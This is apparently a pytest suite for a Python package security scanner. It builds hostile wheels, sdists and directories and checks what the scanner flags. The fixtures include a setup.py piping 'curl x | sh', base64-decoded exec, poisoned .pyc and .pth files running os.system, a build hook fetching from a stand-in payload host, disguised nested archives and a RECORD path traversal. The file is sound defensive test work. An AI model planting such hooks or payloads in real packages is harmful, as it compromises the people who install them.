"""Every way a target once hid from the scan: each is now scanned, or reported as not scanned.

Each test builds its hostile target itself (a directory, an sdist, a wheel, an installed
distribution) and asserts what the checker reports about it.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import subprocess
import sys
import tempfile
import zipfile
from importlib import _bootstrap_external  # type: ignore[attr-defined]
from pathlib import Path

import pytest
from hermetic import NOBODY, TODAY, interpreter_as_other_user_refusal

from pysecbook.checker import check_target
from pysecbook.checker.checklist import RuntimeEnvironment
from pysecbook.checker.declarations import decode_like_pip, project_info
from pysecbook.checker.scan import open_target, scan, scan_file
from pysecbook.checker.scan.filescan import BytecodeJob, check_bytecode
from pysecbook.lab import builders as fx
from pysecbook.lab.offline import not_audited

MAGIC = importlib.util.MAGIC_NUMBER
VENV = RuntimeEnvironment((3, 12), "/srv/venv", None)


def check(spec: str, **kwargs):  # type: ignore[no-untyped-def]
    return check_target(spec, environment=VENV, today=TODAY, auditor=not_audited, **kwargs)


def rules(report_or_outcome) -> set[str]:  # type: ignore[no-untyped-def]
    return {f.rule_id for f in report_or_outcome.findings}


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
    return root


def wheel(dest: Path, files: dict[str, bytes], name: str = "demo") -> Path:
    path = dest / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for rel, data in files.items():
            zf.writestr(rel, data)
        zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.4\nName: {name}\n"
                    "Version: 1.0\nSummary: A small demonstration library.\n"
                    "License-Expression: MIT\n"
                    "Project-URL: Source, https://example.invalid/demo\n")
        zf.writestr(f"{name}-1.0.dist-info/RECORD", "")
    return path


# ------------------------------------------------------------------ nosec of every kind

DECODED = "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))"


@pytest.mark.parametrize("comment", [
    "# nosec",
    "# nosec B102, PSB-RF-EXEC-DECODED - plugin loader",
    "# nosec PSB-RF-EXEC-DECODED-X",
    "# NOSEC: B102",
])
def test_no_nosec_silences_someone_elses_red_flag(tmp_path: Path, comment: str) -> None:
    report = check(str(write(tmp_path, {"pkg/loader.py": f"{DECODED}  {comment}\n"})))
    assert {"PSB-RF-EXEC-DECODED", "B102", "PSB-TRUST-NOSEC"} <= rules(report)
    assert report.check("M2").status == "fail" and report.nosec_count == 0


def test_nosec_in_install_time_code_is_a_high_finding(tmp_path: Path) -> None:
    setup = ("import subprocess  # nosec B404\nfrom setuptools import setup\n"
             "subprocess.call('curl x | sh', shell=True)  # nosec PSB-RF-SETUP-PROCESS B602\n"
             "setup(name='x')\n")
    report = check(str(fx.make_sdist(tmp_path, {"setup.py": setup.encode()}, name="x-1.0")))
    refused = [f for f in report.findings if f.rule_id == "PSB-TRUST-NOSEC"]
    assert len(refused) == 1 and refused[0].severity == "high" and "install-time" in refused[0].message
    assert {"PSB-RF-SETUP-PROCESS", "B602"} <= rules(report)
    assert report.verdict == "blocked"


def test_a_nosec_in_a_string_is_no_comment() -> None:
    source = f"{DECODED} if '# nosec PSB-RF-EXEC-DECODED' else None\n"
    result = scan_file("m.py", source.encode(), honour_nosec=True)
    assert "PSB-RF-EXEC-DECODED" in rules(result) and result.nosec == []


# ------------------------------------------------------------------ bytecode

def pyc(code_source: str, *, mtime: float = 0, size: int = 0, unchecked: bool = False) -> bytes:
    code = compile(code_source, "x.py", "exec", dont_inherit=True, optimize=0)
    if unchecked:
        return bytes(_bootstrap_external._code_to_hash_pyc(code, b"\0" * 8, checked=False))
    return bytes(_bootstrap_external._code_to_timestamp_pyc(code, int(mtime), size))


def test_poisoned_cache_in_a_directory_is_high(tmp_path: Path) -> None:
    """A ``__pycache__`` file whose header matches the source runs instead of it."""
    source = b"def add(a, b):\n    return a + b\n"
    write(tmp_path, {"demo/core.py": source})
    stat = (tmp_path / "demo" / "core.py").stat()
    cache = tmp_path / "demo" / "__pycache__" / f"core.{sys.implementation.cache_tag}.pyc"
    cache.parent.mkdir()
    cache.write_bytes(pyc("import os\nos.system('id')\n", mtime=stat.st_mtime, size=stat.st_size))
    outcome = scan(open_target(str(tmp_path)), jobs=1)
    hit = [f for f in outcome.findings if f.rule_id == "PSB-RF-BYTECODE-MISMATCH"]
    assert len(hit) == 1 and hit[0].severity == "high" and hit[0].path.endswith(".pyc")


def test_an_honest_or_stale_cache_in_a_directory_is_quiet(tmp_path: Path) -> None:
    source = b"def add(a, b):\n    return a + b\n"
    write(tmp_path, {"demo/core.py": source})
    stat = (tmp_path / "demo" / "core.py").stat()
    cache = tmp_path / "demo" / "__pycache__"
    cache.mkdir()
    (cache / f"core.{sys.implementation.cache_tag}.pyc").write_bytes(
        pyc(source.decode(), mtime=stat.st_mtime, size=stat.st_size))
    write(tmp_path, {"demo/old.py": "x = 2\n"})
    (cache / f"old.{sys.implementation.cache_tag}.pyc").write_bytes(pyc("x = 1\n", mtime=1, size=6))
    outcome = scan(open_target(str(tmp_path)), jobs=1)
    assert not [f for f in outcome.findings if f.rule_id.startswith("PSB-RF-BYTECODE")]


def test_bytecode_in_a_wheel(tmp_path: Path) -> None:
    tag = sys.implementation.cache_tag
    spec = wheel(tmp_path, {
        "demo/__init__.py": b"",
        "demo/core.py": b"x = 1\n",
        f"demo/__pycache__/core.{tag}.pyc": pyc("x = 1\n", unchecked=True),
        "demo/evil.py": b"x = 2\n",
        f"demo/__pycache__/evil.{tag}.pyc": pyc("import os\nos.system('id')\n", unchecked=True),
        "demo/helper.pyc": pyc("print('no source')\n"),
    })
    found = {f.path: (f.rule_id, f.severity) for f in check(str(spec)).findings
             if f.rule_id.startswith("PSB-RF-BYTECODE")}
    assert found == {
        f"demo/__pycache__/core.{tag}.pyc": ("PSB-RF-BYTECODE", "low"),
        f"demo/__pycache__/evil.{tag}.pyc": ("PSB-RF-BYTECODE-MISMATCH", "high"),
        "demo/helper.pyc": ("PSB-RF-BYTECODE-SOURCELESS", "high"),
    }


def test_bytecode_of_another_python_cannot_be_compared() -> None:
    other = (int.from_bytes(MAGIC[:2], "little") + 7).to_bytes(2, "little") + MAGIC[2:]
    job = BytecodeJob("demo/__pycache__/core.cpython-399.pyc", other + bytes(12) + b"garbage",
                      "demo/core.py", b"x = 1\n")
    assert check_bytecode(job).findings[0].severity == "low"  # a cache the interpreter ignores
    legacy = BytecodeJob("demo/core.pyc", other + bytes(12), "demo/core.py", b"x = 1\n")
    assert check_bytecode(legacy).findings[0].severity == "medium"


# ------------------------------------------------------------------ what the listing hides

_UNREADABLE = """
import json, os, sys
from pysecbook.checker.scan import open_target
t = open_target(sys.argv[1])
print(json.dumps([[u.path, u.reason] for u in t.unscanned]))
"""


def test_a_directory_that_cannot_be_listed_is_reported(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """The listing fails where the reader asks the kernel for it (root could read anything)."""
    write(tmp_path, {"ok.py": "x = 1\n", "locked/hidden.py": "x = 2\n"})
    real = os.scandir

    def deny(path=".", *args, **kwargs):  # type: ignore[no-untyped-def]
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", deny)
    target = open_target(str(tmp_path))
    assert [f.path for f in target.files] == ["ok.py"]
    assert [(u.path, u.reason) for u in target.unscanned] == [
        ("locked", "cannot list this directory: Permission denied; its files are not scanned")]


def test_an_unreadable_directory_is_reported() -> None:
    """For real: an ordinary user cannot list a directory of mode 000."""
    base = Path(tempfile.mkdtemp(prefix="pysecbook-unreadable-"))
    try:
        base.chmod(0o755)
        write(base, {"ok.py": "x = 1\n", "locked/hidden.py": "x = 2\n"})
        (base / "locked").chmod(0o000)
        if os.geteuid() == 0:
            if (why := interpreter_as_other_user_refusal()) is not None:
                pytest.skip(why)
            # Root reads any directory; the reader runs as an ordinary user instead.
            done = subprocess.run([sys.executable, "-c", _UNREADABLE, str(base)], capture_output=True,
                                  text=True, timeout=120, check=False,
                                  user=NOBODY, group=NOBODY, extra_groups=[], cwd="/")
            assert done.returncode == 0, done.stderr
            unscanned = json.loads(done.stdout)
        else:
            unscanned = [[u.path, u.reason] for u in open_target(str(base)).unscanned]
        assert unscanned == [["locked", "cannot list this directory: Permission denied; its files "
                                        "are not scanned"]]
    finally:
        (base / "locked").chmod(0o755)
        for p in sorted(base.rglob("*"), reverse=True):
            p.rmdir() if p.is_dir() else p.unlink()
        base.rmdir()


def test_a_symlink_into_git_is_scanned_under_its_own_name(tmp_path: Path) -> None:
    write(tmp_path, {".git/payload.py": f"{DECODED}\n", ".git/hooks/x.py": "x = 1\n",
                     "pkg/__init__.py": ""})
    (tmp_path / "pkg" / "core.py").symlink_to("../.git/payload.py")
    (tmp_path / "pkg" / "hooks").symlink_to("../.git/hooks")
    outcome = scan(open_target(str(tmp_path)), jobs=1)
    assert ("PSB-RF-EXEC-DECODED", "pkg/core.py") in {(f.rule_id, f.path) for f in outcome.findings}
    assert [u.path for u in outcome.unscanned] == ["pkg/hooks"]
    assert {"PSB-DIR-SYMLINK-HIDDEN"} <= rules(outcome)


# ------------------------------------------------------------------ declarations pip reads

def test_a_utf16_requirements_file_is_read_as_pip_reads_it(tmp_path: Path) -> None:
    text = "--extra-index-url https://example.invalid/simple\nrequests\n"
    write(tmp_path, {"requirements.txt": text.encode("utf-16")})
    report = check(str(tmp_path))
    assert report.check("M1").status == "fail" and "extra index" in report.check("M1").details[0]
    assert report.check("M4").status == "fail"


def test_undecodable_requirements_fail_closed(tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": b"\xff\xfe\x00" + b"\xd8" * 3})
    report = check(str(tmp_path))
    assert [u.path for u in report.unscanned] == ["requirements.txt"] and report.verdict == "blocked"


def test_decode_like_pip() -> None:
    assert decode_like_pip("rich\n".encode("utf-32"))[0] == "rich\n"
    assert decode_like_pip(b"\xef\xbb\xbfrich\n")[0] == "rich\n"
    assert decode_like_pip("# -*- coding: latin-1 -*-\ncaf\xe9\n".encode("latin-1"))[0].endswith("caf\xe9\n")
    assert decode_like_pip(b"caf\xe9\n")[0] is None


def test_editable_project_and_included_files(tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": "-e .\n-r requirements/base.txt\n",
                     "requirements/base.txt": "rich==13.9.4\n-r ../../outside.txt\n"})
    info = project_info(open_target(str(tmp_path)))
    assert [(d.text, d.local, d.pinned) for d in info.dependencies] == [(".", ".", False),
                                                                       ("rich==13.9.4", None, True)]
    assert info.unreadable == {"requirements/base.txt:2": "includes '../../outside.txt', outside the target"}


def test_a_pth_with_a_byte_order_mark_is_flagged(tmp_path: Path) -> None:
    spec = wheel(tmp_path, {"demo/__init__.py": b"", "demo.pth": b"\xef\xbb\xbfimport os; os.system('id')\n"})
    hits = [f for f in check(str(spec)).findings if f.rule_id == "PSB-RF-PTH-EXEC"]
    assert [(f.path, f.line) for f in hits] == [("demo.pth", 1)]


# ------------------------------------------------------------------ archives in disguise

def test_an_archive_in_disguise_is_opened(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("stage2.py", f"{DECODED}\n")
    spec = wheel(tmp_path, {"demo/__init__.py": b"", "demo/assets/logo.dat": inner.getvalue()})
    report = check(str(spec))
    assert ("PSB-RF-EXEC-DECODED", "demo/assets/logo.dat!/stage2.py") in {
        (f.rule_id, f.path) for f in report.findings}


def test_a_nested_archive_is_opened_to_a_bounded_depth(tmp_path: Path) -> None:
    data = f"{DECODED}\n".encode()
    for depth in range(5):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(f"layer{depth}.zip" if depth else "payload.py", data)
        data = buf.getvalue()
    spec = wheel(tmp_path, {"demo/__init__.py": b"", "demo/blob.bin": data})
    report = check(str(spec))
    assert any("nested more than 3 levels" in u.reason for u in report.unscanned)
    assert report.verdict == "blocked"


def test_seven_zip_inside_is_not_scanned_and_says_so(tmp_path: Path) -> None:
    spec = wheel(tmp_path, {"demo/__init__.py": b"", "demo/data.bin": b"7z\xbc\xaf\x27\x1c" + bytes(30)})
    assert [u.reason.split(":")[0] for u in check(str(spec)).unscanned] == ["nested 7z archive"]


# ------------------------------------------------------------------ install-time code

def test_an_in_tree_build_backend_is_install_time_code(tmp_path: Path) -> None:
    files = {
        "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
        "_build/backend.py": b"import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n"
                             b"def build_wheel(*a):\n    return 'x.whl'\n",
        "demo/cli.py": b"import subprocess\nsubprocess.run(['git', 'status'])\n",
    }
    report = check(str(fx.make_sdist(tmp_path, files, name="demo-1.0")))
    hits = {(f.rule_id, f.path) for f in report.findings if f.source == "redflag"}
    assert ("PSB-RF-SETUP-PROCESS", "_build/backend.py") in hits
    assert not [h for h in hits if h[1] == "demo/cli.py"]  # a CLI that spawns git: not install time


def test_hatch_build_hook_is_install_time_code(tmp_path: Path) -> None:
    files = {"pyproject.toml": b'[tool.hatch.build.hooks.custom]\n',
             "hatch_build.py": b"from urllib.request import urlopen\n"
                               b"urlopen('http://payload.example.invalid/x')\n"}
    report = check(str(fx.make_sdist(tmp_path, files, name="demo-1.0")))
    assert ("PSB-RF-SETUP-NETWORK", "hatch_build.py") in {(f.rule_id, f.path) for f in report.findings}


# ------------------------------------------------------------------ an installed distribution

def test_record_paths_outside_the_scheme_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = tmp_path / "site"
    write(site, {
        "evilpkg/__init__.py": "x = 1\n",
        "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
        "evilpkg-1.0.dist-info/RECORD": "evilpkg/__init__.py,,\n../../etc/hostname,,\n"
                                        "evilpkg-1.0.dist-info/METADATA,,\n",
    })
    monkeypatch.syspath_prepend(str(site))
    target = open_target("evilpkg", installed=True)
    assert [f.path for f in target.files] == ["evilpkg/__init__.py"]
    assert [(u.path, u.reason) for u in target.unscanned] == [
        ("../../etc/hostname", "RECORD lists a path outside the installation scheme: not read")]
    assert [f.rule_id for f in target.findings] == ["PSB-INSTALL-RECORD-OUTSIDE"]


def test_an_installed_distribution_is_read_alike_whatever_finders_are_loaded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The importlib_metadata backport, once imported by any library, puts a finder of its own
    on sys.meta_path whose ``files`` hides RECORD entries outside site-packages: the checker's
    verdict then depended on what else the process had imported (a test that failed only in
    some orders). The standard library's finder, and the RECORD as written, decide."""
    backport = pytest.importorskip("importlib_metadata")
    site = tmp_path / "site"
    write(site, {
        "evilpkg/__init__.py": "x = 1\n",
        "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
        "evilpkg-1.0.dist-info/RECORD": "evilpkg/__init__.py,,\n../../etc/hostname,,\n",
    })
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.setattr(sys, "meta_path", [backport.MetadataPathFinder(), *sys.meta_path])
    target = open_target("evilpkg", installed=True)
    assert [u.path for u in target.unscanned] == ["../../etc/hostname"]
    assert [f.rule_id for f in target.findings] == ["PSB-INSTALL-RECORD-OUTSIDE"]


# ------------------------------------------------------------------ bounded

@pytest.mark.timeout(60)
def test_the_python2_detector_is_linear(tmp_path: Path) -> None:
    """40 KB of blank lines and one syntax error once took half a minute. The scan's own
    per-file limit is the guard: a detector that took that long again would leave the file
    unscanned for the time limit, not for its syntax error. Nothing here reads the clock."""
    write(tmp_path, {"slow.py": "\n" * 40_000 + "def f(:\n"})
    outcome = scan(open_target(str(tmp_path)), jobs=1, file_timeout=30)
    assert [u.reason for u in outcome.unscanned] == ["syntax error: invalid syntax (line 40001)"]


def test_a_clean_wheel_without_ci_is_not_blocked(tmp_path: Path) -> None:
    """A requests-like wheel: pure Python, a licence, project URLs, no CI files."""
    licence = (fx.SAMPLE_FILES["demo/core.py"], )
    spec = wheel(tmp_path, {
        "demo/__init__.py": b'"""A well-kept library."""\nfrom demo.core import add\n',
        "demo/core.py": licence[0],
        "demo/api.py": b"import json\nimport urllib.request\n\n\ndef get(url, timeout=10):\n"
                       b"    with urllib.request.urlopen(url, timeout=timeout) as r:  # nosec B310\n"
                       b"        return json.load(r)\n",
    })
    report = check(str(spec))
    assert report.unscanned == [] and report.target_verdict == "review"
    assert [c.id for c in report.unshown_must] == ["M7"] and report.exit_code == 3
    assert not [f for f in report.findings if f.source == "redflag"]


def test_a_large_data_file_is_judged_by_its_first_bytes(tmp_path: Path) -> None:
    """A shared library over the file size limit is data: read in part, flagged as a binary,
    and not a reason to fail the scan. An archive over the limit cannot be opened: it is."""
    big = 2 * 2**20
    elf = b"\x7fELF\x02\x01\x01" + bytes(big)
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("payload.py", f"{DECODED}\n" + "#" * big)
    spec = wheel(tmp_path, {"demo/__init__.py": b"", "demo/_core.so": elf,
                            "demo/data.dat": zipped.getvalue()})
    target = open_target(str(spec), max_file_size=2**20)
    kept = {f.path: f for f in target.files}
    assert kept["demo/_core.so"].truncated and len(kept["demo/_core.so"].data) == 2**20
    assert [(u.path, u.reason.split(" (")[0]) for u in target.unscanned] == [
        ("demo/data.dat", "an archive larger than the file size limit")]
    outcome = scan(target, jobs=1)
    assert ("PSB-RF-NATIVE-BINARY", "demo/_core.so") in {(f.rule_id, f.path) for f in outcome.findings}


# ------------------------------------------------------------------ where a wheel member lands

@pytest.mark.parametrize("member", ["sitecustomize.py", "demo-1.0.data/purelib/sitecustomize.py",
                                    "demo-1.0.data/platlib/usercustomize.py"])
def test_a_start_up_module_is_found_wherever_the_wheel_installs_it_into_site_packages(
        tmp_path: Path, member: str) -> None:
    """``NAME.data/purelib/`` and ``platlib/`` land in site-packages itself."""
    outcome = scan(open_target(str(wheel(tmp_path, {member: b"import os\n"}))), jobs=1)
    assert [(f.rule_id, f.path, f.severity) for f in outcome.findings
            if f.rule_id == "PSB-RF-STARTUP-FILE"] == [("PSB-RF-STARTUP-FILE", member, "high")]


def test_a_start_up_module_elsewhere_in_the_data_is_not_one(tmp_path: Path) -> None:
    outcome = scan(open_target(str(wheel(tmp_path, {"demo-1.0.data/data/share/sitecustomize.py":
                                                    b"import os\n"}))), jobs=1)
    assert "PSB-RF-STARTUP-FILE" not in rules(outcome)
